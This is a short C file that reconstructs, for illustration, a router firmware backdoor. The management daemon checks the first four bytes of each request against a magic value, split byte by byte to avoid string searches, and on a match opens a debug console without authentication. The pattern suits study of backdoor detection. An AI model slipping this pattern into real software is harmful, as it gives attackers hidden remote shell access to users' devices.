/* A reconstruction, in our own code, of the shape of a router firmware
 * backdoor: the management daemon's request parser checks four bytes of
 * the request one at a time, so the magic value is in no string, and on a
 * match starts a debug shell defined in another file. */
#include <string.h>
#include <sys/types.h>
#include <sys/socket.h>

#include "mgmt.h"

int mgmt_handle(int fd)
{
    unsigned char req[512];
    ssize_t n = recv(fd, req, sizeof(req), 0);
    if (n < 8)
        return -1;
    if (req[0] == 0x7a && req[1] == 0x5e &&
        req[2] == 0x11 && req[3] == 0x99) {
        mgmt_debug_console(fd);
        return 0;
    }
    return mgmt_dispatch(req, (size_t)n);
}
